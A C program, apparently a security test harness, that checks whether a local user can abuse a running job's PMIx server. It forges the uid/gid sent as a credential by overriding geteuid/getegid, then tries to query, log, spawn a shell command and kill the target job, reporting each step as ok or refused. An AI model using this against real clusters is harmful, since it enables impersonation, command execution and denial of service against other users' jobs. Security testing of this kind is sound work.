/*
 * pmixattack.c - what another local user can try against a running job's
 * PMIx server, knowing only what ps and ss show: the launcher's (or a
 * daemon's) pid and host name, hence its namespace "prun-HOST-PID", the
 * job's namespace "prun.PID.1", and the loopback port it listens on.
 *
 * Build: gcc -O2 -Wall pmixattack.c $(pkg-config --cflags --libs pmix)
 *
 *   pmixattack tool URI NSPACE MARKER
 *       Attaches as a PMIx tool (PMIx_tool_init with PMIX_SERVER_URI=URI),
 *       then, whatever became of that, queries the namespaces, registers
 *       for and sends an event, logs "pmixattack: logged by a stranger",
 *       spawns "/bin/sh -c 'touch MARKER'" and asks for NSPACE to be killed.
 *
 *   pmixattack client URI NSPACE RANK
 *       Connects as rank RANK of NSPACE (PMIx_Init with the environment a
 *       rank gets: PMIX_NAMESPACE, PMIX_RANK, PMIX_SERVER_URI*), then logs
 *       and asks for NSPACE to be killed.
 *
 * Every step prints one line "pmixattack: STEP: ok" or "pmixattack: STEP:
 * refused (PMIx error)". Exit status 0 unless the usage is wrong.
 *
 * PMIXATTACK_UID / PMIXATTACK_GID, when set, are what geteuid()/getegid()
 * return in this process: libpmix asks them for the uid and gid it claims
 * in its connection request (over TCP, the "native" security module sends
 * them as its credential), so this is how a tool lies about who it is.
 *
 * A SIGALRM watchdog (30 s) ends a run stuck in a PMIx call.
 */
#define _GNU_SOURCE
#include <pmix.h>
#include <pmix_tool.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

/* The executable's definitions take the place of libc's for libpmix. */
uid_t geteuid(void)
{
    const char *s = getenv("PMIXATTACK_UID");
    return s != NULL ? (uid_t)strtoul(s, NULL, 10) : (uid_t)syscall(SYS_geteuid);
}

gid_t getegid(void)
{
    const char *s = getenv("PMIXATTACK_GID");
    return s != NULL ? (gid_t)strtoul(s, NULL, 10) : (gid_t)syscall(SYS_getegid);
}

static const char *volatile phase = "start";

static void watchdog(int sig)
{
    (void)sig;
    char buf[256];
    int n = snprintf(buf, sizeof buf, "pmixattack: stuck in %s\n", phase);
    if (n > 0)
        (void)!write(1, buf, (size_t)n);
    _exit(3);
}

static void report(const char *step, pmix_status_t rc)
{
    if (rc == PMIX_SUCCESS)
        printf("pmixattack: %s: ok\n", step);
    else
        printf("pmixattack: %s: refused (%s)\n", step, PMIx_Error_string(rc));
    fflush(stdout);
}

static void on_event(size_t id, pmix_status_t status, const pmix_proc_t *source, pmix_info_t info[],
                     size_t ninfo, pmix_info_t *results, size_t nresults,
                     pmix_event_notification_cbfunc_fn_t cbfunc, void *cbdata)
{
    (void)id; (void)status; (void)source; (void)info; (void)ninfo; (void)results; (void)nresults;
    if (cbfunc != NULL)
        cbfunc(PMIX_EVENT_ACTION_COMPLETE, NULL, 0, NULL, NULL, cbdata);
}

static void do_query(void)
{
    pmix_status_t rc;
    pmix_query_t q;
    pmix_info_t *res = NULL;
    size_t nres = 0;
    phase = "PMIx_Query_info";
    PMIX_QUERY_CONSTRUCT(&q);
    PMIX_ARGV_APPEND(rc, q.keys, PMIX_QUERY_NAMESPACES);
    rc = PMIx_Query_info(&q, 1, &res, &nres);
    if (rc == PMIX_SUCCESS && nres > 0 && res[0].value.type == PMIX_STRING)
        printf("pmixattack: namespaces %s\n", res[0].value.data.string);
    report("query namespaces", rc);
    if (res != NULL)
        PMIX_INFO_FREE(res, nres);
}

static void do_events(pmix_proc_t *me)
{
    pmix_status_t code = PMIX_EXTERNAL_ERR_BASE - 7, rc;
    phase = "PMIx_Register_event_handler";
    rc = PMIx_Register_event_handler(&code, 1, NULL, 0, on_event, NULL, NULL);
    report("register event handler", rc < 0 ? rc : PMIX_SUCCESS);
    phase = "PMIx_Notify_event";
    rc = PMIx_Notify_event(code, me, PMIX_RANGE_GLOBAL, NULL, 0, NULL, NULL);
    report("notify event", rc);
}

static void do_log(void)
{
    pmix_info_t data;
    phase = "PMIx_Log";
    PMIX_INFO_LOAD(&data, PMIX_LOG_STDERR, "pmixattack: logged by a stranger", PMIX_STRING);
    report("log", PMIx_Log(&data, 1, NULL, 0));
    PMIX_INFO_DESTRUCT(&data);
}

static void do_spawn(const char *marker)
{
    pmix_app_t app;
    char cmd[4096];
    pmix_nspace_t child;
    phase = "PMIx_Spawn";
    snprintf(cmd, sizeof cmd, "touch %s", marker);
    PMIX_APP_CONSTRUCT(&app);
    app.cmd = strdup("/bin/sh");
    app.argv = calloc(4, sizeof(char *));
    app.argv[0] = strdup("/bin/sh");
    app.argv[1] = strdup("-c");
    app.argv[2] = strdup(cmd);
    app.maxprocs = 1;
    app.cwd = strdup("/");
    report("spawn", PMIx_Spawn(NULL, 0, &app, 1, child));
    PMIX_APP_DESTRUCT(&app);
}

static void do_kill(const char *nspace)
{
    pmix_proc_t target;
    pmix_info_t directive;
    pmix_info_t *results = NULL;
    size_t nresults = 0;
    bool t = true;
    phase = "PMIx_Job_control";
    PMIX_PROC_LOAD(&target, nspace, PMIX_RANK_WILDCARD);
    PMIX_INFO_LOAD(&directive, PMIX_JOB_CTRL_KILL, &t, PMIX_BOOL);
    report("job control kill", PMIx_Job_control(&target, 1, &directive, 1, &results, &nresults));
    if (results != NULL)
        PMIX_INFO_FREE(results, nresults);
}

int main(int argc, char **argv)
{
    pmix_proc_t me;
    pmix_status_t rc;

    signal(SIGALRM, watchdog);
    alarm(30);
    if (argc == 5 && strcmp(argv[1], "tool") == 0) {
        pmix_info_t info[2];
        bool no = false;
        PMIX_INFO_LOAD(&info[0], PMIX_SERVER_URI, argv[2], PMIX_STRING);
        PMIX_INFO_LOAD(&info[1], PMIX_CONNECT_TO_SYSTEM, &no, PMIX_BOOL);
        phase = "PMIx_tool_init";
        rc = PMIx_tool_init(&me, info, 2);
        report("tool init", rc);
        do_query();
        do_events(&me);
        do_log();
        do_spawn(argv[4]);
        do_kill(argv[3]);
        phase = "PMIx_tool_finalize";
        if (rc == PMIX_SUCCESS)
            PMIx_tool_finalize();
        return 0;
    }
    if (argc == 5 && strcmp(argv[1], "client") == 0) {
        const char *uris[] = {"PMIX_SERVER_URI41", "PMIX_SERVER_URI4", "PMIX_SERVER_URI3",
                              "PMIX_SERVER_URI21", "PMIX_SERVER_URI2"};
        for (size_t i = 0; i < sizeof uris / sizeof uris[0]; i++)
            setenv(uris[i], argv[2], 1);
        setenv("PMIX_NAMESPACE", argv[3], 1);
        setenv("PMIX_RANK", argv[4], 1);
        setenv("PMIX_SECURITY_MODE", "native", 1);
        setenv("PMIX_BFROP_BUFFER_TYPE", "PMIX_BFROP_BUFFER_NON_DESC", 1);
        setenv("PMIX_GDS_MODULE", "hash", 1);
        phase = "PMIx_Init";
        rc = PMIx_Init(&me, NULL, 0);
        report("client init", rc);
        do_log();
        do_kill(argv[3]);
        phase = "PMIx_Finalize";
        if (rc == PMIX_SUCCESS)
            PMIx_Finalize(NULL, 0);
        return 0;
    }
    fprintf(stderr, "usage: pmixattack tool URI NSPACE MARKER | client URI NSPACE RANK\n");
    return 2;
}
